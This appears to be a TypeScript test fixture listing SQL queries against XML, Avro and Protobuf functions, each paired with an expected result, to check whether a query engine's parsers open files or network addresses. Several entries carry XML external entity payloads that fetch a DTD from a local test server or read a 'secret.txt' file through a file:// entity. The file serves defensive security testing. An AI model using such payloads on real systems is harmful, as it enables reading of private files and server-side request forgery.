import type { Attack } from './attack.ts';

/** Functions that open files and addresses which are named in their arguments. */
export const parsersOfDocuments: readonly Attack[] = [
  ["select xpath('<!DOCTYPE a SYSTEM \"http://127.0.0.1:@PORT@/a.dtd\"><a/>', '/a')", 'fetches an address'],
  [
    "select xpath_string('<!DOCTYPE a [<!ENTITY x SYSTEM \"file://@DIR@/secret.txt\">]><a>&x;</a>', '/a')",
    'answers',
  ],
  [
    "select xpath_int('<!DOCTYPE a SYSTEM \"http://127.0.0.1:@PORT@/a.dtd\"><a>1</a>', '/a')",
    'fetches an address',
  ],
  [
    "select xpath_boolean('<!DOCTYPE a SYSTEM \"http://127.0.0.1:@PORT@/a.dtd\"><a/>', '/a')",
    'fetches an address',
  ],
  [
    "select xpath_double('<!DOCTYPE a SYSTEM \"http://127.0.0.1:@PORT@/a.dtd\"><a>1</a>', '/a')",
    'fetches an address',
  ],
  [
    "select xpath_number('<!DOCTYPE a SYSTEM \"http://127.0.0.1:@PORT@/a.dtd\"><a>1</a>', '/a')",
    'fetches an address',
  ],
  [
    "select xpath_float('<!DOCTYPE a SYSTEM \"http://127.0.0.1:@PORT@/a.dtd\"><a>1</a>', '/a')",
    'fetches an address',
  ],
  [
    "select xpath_long('<!DOCTYPE a SYSTEM \"http://127.0.0.1:@PORT@/a.dtd\"><a>1</a>', '/a')",
    'fetches an address',
  ],
  [
    "select xpath_short('<!DOCTYPE a SYSTEM \"http://127.0.0.1:@PORT@/a.dtd\"><a>1</a>', '/a')",
    'fetches an address',
  ],
  [
    "select `xpath_string`('<!DOCTYPE a SYSTEM \"http://127.0.0.1:@PORT@/a.dtd\"><a/>', '/a')",
    'fetches an address',
  ],
  ["select from_xml('<a><b>1</b></a>', 'b int', map('rowValidationXSDPath', '@DIR@/secret.txt'))", 'fails'],
  [
    "select from_xml('<!DOCTYPE a SYSTEM \"http://127.0.0.1:@PORT@/a.dtd\"><a><b>1</b></a>', 'b int')",
    'answers',
  ],
  ["select schema_of_xml('<a><b>1</b></a>')", 'answers'],
  ["select to_xml(named_struct('a', 1))", 'answers'],
  ['select from_avro(x\'00\', \'{"type":"int"}\')', 'fails'],
  ['select to_avro(1)', 'fails'],
  ['select schema_of_avro(\'{"type":"int"}\')', 'fails'],
  ["select from_protobuf(x'00', 'M', '@DIR@/secret.txt')", 'fails'],
  ["select to_protobuf(named_struct('a', 1), 'M', '@DIR@/secret.txt')", 'fails'],
  ["select from_protobuf(x'00', 'M', '@DIR@/secret.txt', map())", 'fails'],
  ['select * from python_worker_logs()', 'fails'],
];
